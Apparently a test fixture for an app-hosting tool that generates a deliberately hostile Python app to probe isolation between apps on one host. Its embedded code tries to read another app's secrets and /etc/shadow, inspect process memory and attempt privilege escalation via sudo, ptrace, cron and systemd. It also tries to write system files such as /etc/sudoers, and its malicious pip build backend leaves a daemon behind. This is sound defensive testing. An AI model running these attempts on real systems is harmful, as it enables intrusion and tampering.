"""A hostile app, which tries to get at another app of its host from every place in which its code runs.

Without a file target.json in its source it is harmless: the victim is the same app.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from pathlib import Path

WEB = """
import json, os, subprocess, sys
import attack
attack.report("import")
print("a line of the app's, " + os.environ["SECRET"], flush=True)
def app(environ, start_response):
    headers = [("Content-Type", "application/json")]
    if environ["PATH_INFO"] == "/redirect":
        headers.append(("Location", "/private"))
    start_response("200 OK", headers)
    if environ["PATH_INFO"] == "/attack":
        return [json.dumps(attack.result()).encode()]
    return [json.dumps({"app": os.environ["FLASK_APACHE_APP"], "pid": os.getpid()}).encode()]
"""
WORKER = """
import os, sys, time
import attack
print("a worker's line, " + os.environ["SECRET"], flush=True)
attack.report(sys.argv[1])
while sys.argv[1] == "worker":
    time.sleep(1)
"""
BUILD_SYSTEM = """
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
"""
# What pip runs to build a package: it leaves a daemon behind, and puts its report into the wheel.
BACKEND = """
import json, os, subprocess, sys, zipfile
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
INFO = "evil-1.dist-info"
METADATA = {
    "METADATA": "Metadata-Version: 2.1\\nName: evil\\nVersion: 1\\n",
    "WHEEL": "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    "RECORD": "",
}
def prepare_metadata_for_build_wheel(directory, config_settings=None):
    os.mkdir(os.path.join(directory, INFO))
    for name, text in METADATA.items():
        with open(os.path.join(directory, INFO, name), "w") as file:
            file.write(text)
    return INFO
def build_wheel(directory, config_settings=None, metadata_directory=None):
    import attack
    found = attack.result() if attack.has_target() else {}
    daemon = "import os, time; os.fork() and os._exit(0); os.setsid(); time.sleep(4242)"
    no = subprocess.DEVNULL
    subprocess.Popen([sys.executable, "-c", daemon], stdin=no, stdout=no, stderr=no, start_new_session=True)
    for place in ("/tmp", "/var/tmp", "/dev/shm"):
        with open(place + "/left-by-a-build", "w") as file:
            file.write("x")
    name = "evil-1-py3-none-any.whl"
    with zipfile.ZipFile(directory + "/" + name, "w") as wheel:
        wheel.writestr("evil.json", json.dumps(found))
        for file, text in METADATA.items():
            wheel.writestr(INFO + "/" + file, text)
    return name
"""
# An attempt is a function that raises OSError when it is refused. Root, who may do it all, shows that it can succeed.
ATTACK = """
import ctypes, glob, json, os, signal, socket, stat, subprocess, sys

TARGET = os.path.join(os.path.dirname(os.path.abspath(__file__)), "target.json")

def read(path):
    with open(path, "rb") as file:
        return repr(file.read(100))

def opened(path, flags=os.O_RDONLY):
    os.close(os.open(path, flags))

def add_to(directory):
    path = os.path.join(directory, ".attack")
    opened(path, os.O_WRONLY | os.O_CREAT)
    os.unlink(path)

def connect(path):
    with socket.socket(socket.AF_UNIX) as connection:
        connection.connect(path)

def attempts(target):
    me, victim = target["me"], target["victim"]
    places = ("/etc", "/srv", "/var/lib", "/var/log", "/var/cache")
    etc, srv, var, log, cache = (f"{place}/flask-apache" for place in places)
    for path in (
        *(f"{etc}/{victim}/{name}" for name in ("env", "secret_key", "app.json", "live.map")),
        *(f"{srv}/{victim}/{name}" for name in ("history.jsonl", "units.json", "lock")),
        *(f"{srv}/{victim}/current/{name}" for name in ("app/web.py", "env", "release.json", "venv/pyvenv.cfg")),
        f"{var}/{victim}/diary", f"{log}/{victim}/access.log", target["key"], "/etc/shadow",
        *target["of_builds"], f"{etc}/vhosts/victim.example.com-80/998-{victim}.conf",
        f"{etc}/{me}/secret_key", f"{etc}/{me}/live.map", f"{log}/{me}/access.log", "/var/log/apache2/error.log",
    ):
        yield read, path
    for path in (
        f"{srv}/{victim}", f"{srv}/{victim}/releases", f"{var}/{victim}", f"{log}/{victim}", f"{cache}/{victim}",
        f"{etc}/{victim}", f"{etc}/vhosts", "/run/flask-apache/build-" + victim, f"{log}/{me}", f"{srv}/{me}/incoming",
        "/var/log/apache2", "/etc/ssl/private",
        *(f"/proc/{pid}/fd" for pid in target["pids"]),
    ):
        yield os.listdir, path
    for pid in target["pids"]:
        yield (lambda number: os.kill(int(number), 0)), str(pid)
        for name in ("environ", "maps", "mem"):
            yield opened, f"/proc/{pid}/{name}"
        for name in ("cwd", "exe", "root"):
            yield os.readlink, f"/proc/{pid}/{name}"
    for path in (
        etc, f"{etc}/{me}", f"{etc}/{victim}", f"{etc}/vhosts", srv, f"{srv}/{me}", f"{srv}/{me}/incoming",
        f"{srv}/{me}/releases", f"{srv}/{me}/current/app", f"{srv}/{me}/current/venv/bin", f"{srv}/{victim}",
        f"{srv}/{victim}/current/app", var, f"{var}/{victim}", log, f"{log}/{me}", f"{log}/{victim}",
        cache, f"{cache}/.tools", f"{cache}/{victim}", f"{cache}/{victim}/pip", "/run/flask-apache",
        "/var/www/html", "/var/spool", "/var/spool/cron", "/etc/cron.d", "/etc/systemd/system",
        "/etc/apache2/sites-enabled", "/usr/local/bin", "/run/apache2", "/run", "/root", "/var/lib",
    ):
        yield add_to, path
    for path in (
        f"{srv}/{me}/current/app/web.py", f"{srv}/{me}/current/env", f"{etc}/{me}/entry.wsgi", f"{etc}/{me}/live.map",
        f"{srv}/{me}/history.jsonl", f"{log}/{me}/access.log",
    ):
        yield (lambda path: opened(path, os.O_WRONLY | os.O_APPEND)), path
    for path in target["sockets"]:
        yield connect, path

def tool(words, expected=""):
    done = subprocess.run(words.split(), input="* * * * * id\\n", capture_output=True, text=True, timeout=20)
    return done.returncode == 0 and expected in done.stdout

def libc(name, *arguments):
    return getattr(ctypes.CDLL(None), name)(*arguments) >= 0

def piece():
    return (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.create_string_buffer(16)), 16)

def watched(path):
    functions = ctypes.CDLL(None)
    return functions.inotify_add_watch(functions.inotify_init(), path.encode(), 4095) >= 0

def bound(path):
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(path)
    return True

def done(function, *arguments, **more):
    function(*arguments, **more)
    return True

def tricks(target):
    victim, pids, secret = target["victim"], target["pids"], target["secret"]
    env, data = "/etc/flask-apache/" + victim + "/env", "/var/lib/flask-apache/" + victim
    releases, unit = "/srv/flask-apache/" + victim + "/releases", "flask-apache-" + victim + "-worker@1.service"
    own = os.environ.get("FLASK_APACHE_DATA") or os.environ.get("TMPDIR", "/tmp")
    for pid in pids:
        yield "ptrace", lambda: libc("ptrace", 16, pid, 0, 0)
        yield "renice", lambda: done(os.setpriority, os.PRIO_PROCESS, pid, 19)
        yield "pin to a processor", lambda: done(os.sched_setaffinity, pid, {0})
        yield "signal by pidfd", lambda: done(signal.pidfd_send_signal, os.pidfd_open(pid), 0)
        yield "read memory", lambda: libc("process_vm_readv", pid, piece(), 1, piece(), 1, 0)
    for name in ("setuid", "setgid"):
        yield name, lambda: done(getattr(os, name), 0)
    yield "groups", lambda: done(os.setgroups, [0])
    yield "chroot", lambda: done(os.chroot, own)
    yield "mount", lambda: tool("mount -t tmpfs none " + data)
    yield "as root of a namespace", lambda: tool("unshare --user --map-root-user cat " + env, secret)
    for words in (
        "sudo -n id", "pkexec --disable-internal-agent id", "runuser -u " + victim + " id", "su -c id " + victim,
        "at -f /etc/hostname now", "crontab -", "batch -f /etc/hostname", "crontab -u " + victim + " -l",
        "systemctl stop " + unit, "systemctl kill " + unit, "systemctl edit --runtime --stdin " + unit,
        "systemctl reload apache2", "systemctl --user start default.target", "systemctl daemon-reload",
        "systemd-run --quiet true", "systemd-run --user --quiet true", "loginctl enable-linger",
        "loginctl terminate-user " + victim, "hostnamectl set-hostname evil", "systemctl set-environment EVIL=1",
        "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager Reload",
        "apache2ctl graceful", "flask-apachectl --app " + victim + " maintenance on",
        "flask-apachectl --app " + victim + " run env", "nsenter -t 1 -m true",
    ):
        yield words, lambda: tool(words)
    for words in (
        "journalctl --no-pager -u " + unit, "journalctl --no-pager -t " + victim + "-worker", "dmesg",
        "systemctl show --no-pager " + unit, "systemctl status --no-pager " + unit, "ps axeww", "env", "ipcs -a",
        "flask-apachectl --app " + victim + " logs", "getent shadow", "lsof -nP", "coredumpctl info",
    ):
        yield words, lambda: tool(words, secret)
    for path in (data + "/socket", "/run/apache2/socket", "/run/flask-apache/socket", "/run/flask-apache.lock.socket"):
        yield "listen at " + path, lambda: bound(path)
    for path in target["sockets"]:
        yield "replace the socket " + path, lambda: done(os.unlink, path) and bound(path)
    for path in (env, "/etc/shadow", data + "/diary", target["key"]):
        yield "hard link to " + path, lambda: done(os.link, path, own + "/linked")
        yield "chmod " + path, lambda: done(os.chmod, path, 0o777)
        yield "chown " + path, lambda: done(os.chown, path, os.getuid(), -1)
        yield "truncate " + path, lambda: done(os.truncate, path, 0)
        yield "date of " + path, lambda: done(os.utime, path, (0, 0))
        yield "remove " + path, lambda: done(os.unlink, path)
    for path in (releases, data, "/etc/flask-apache/" + victim, "/var/log/flask-apache/" + victim):
        yield "rename " + path, lambda: done(os.rename, path, path + ".old")
        yield "link in " + path, lambda: done(os.symlink, "/etc/shadow", path + "/evil")
        yield "watch " + path, lambda: watched(path)
    for path in (
        "/etc/flask-apache/" + victim + "/live.map", "/srv/flask-apache/" + victim + "/lock", "/run/flask-apache.lock",
        "/etc/flask-apache/" + target["me"] + "/app.json", "/usr/local/bin/flask-apachectl",
        "/etc/systemd/system/" + unit.replace("1.", "."), "/etc/crontab", "/etc/sudoers", "/etc/ld.so.preload",
        "/etc/apache2/apache2.conf", "/etc/apache2/envvars", "/etc/tmpfiles.d/flask-apache-evil.conf",
    ):
        yield "write " + path, lambda: done(opened, path, os.O_WRONLY | os.O_CREAT | os.O_APPEND)

def tricked(target):
    for name, trick in tricks(target):
        try:
            yield bool(trick()), name
        except (OSError, subprocess.SubprocessError):
            yield False, name

def succeeded(target):
    for attempt, path in attempts(target):
        try:
            attempt(path)
        except OSError:
            yield False, attempt.__name__ + " " + path
        else:
            yield True, attempt.__name__ + " " + path

def listening():
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
                with socket.socket(fileno=os.dup(int(name))) as held:
                    if held.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                        found.append(str(held.getsockname()))
        except OSError:
            pass
    return found

def output(*command):
    return subprocess.run(command, capture_output=True, text=True).stdout.splitlines()

def has_target():
    return os.path.exists(TARGET)

def report(place):
    path = os.path.join(os.environ["FLASK_APACHE_DATA"], place + ".json")
    if has_target() and not os.path.exists(path):
        with open(path + ".new", "w") as file:
            json.dump(result(), file)
        os.rename(path + ".new", path)

def result():
    with open(TARGET) as file:
        target = json.load(file)
    tried = list(succeeded(target))
    played = list(tricked(target)) if os.getuid() else []
    places = ("/etc", "/home", "/opt", "/root", "/run", "/srv", "/tmp", "/usr/local", "/var")
    processes = glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")
    pattern = target["secret"][:-1] + "[" + target["secret"][-1] + "]" # does not find itself
    not_files = "( -path /proc -o -path /sys -o -path /dev ) -prune -o ( -type f -o -type d ) -writable -print"
    return {
        "user": os.getuid(),
        "got": [name for done, name in tried if done],
        "refused": [name for done, name in tried if not done],
        "tricked": [name for done, name in played if done],
        "tricks": len(played),
        "processes": sum(name.isdigit() for name in os.listdir("/proc")),
        "listening": listening(),
        "writable": output("find", "/", *not_files.split()),
        "holding": output("grep", "-rls", "--devices=skip", pattern, *places, *processes),
    }

if __name__ == "__main__":
    print(json.dumps(result()))
"""


def write(directory: Path) -> Path:
    """Write the app's source."""
    files = {"web.py": WEB, "worker.py": WORKER, "attack.py": ATTACK, "requirements.txt": "./evil\n"}
    files |= {"evil/pyproject.toml": BUILD_SYSTEM, "evil/backend.py": BACKEND}
    for name, text in files.items():
        (directory / name).parent.mkdir(parents=True, exist_ok=True)
        (directory / name).write_text(text)
    return directory
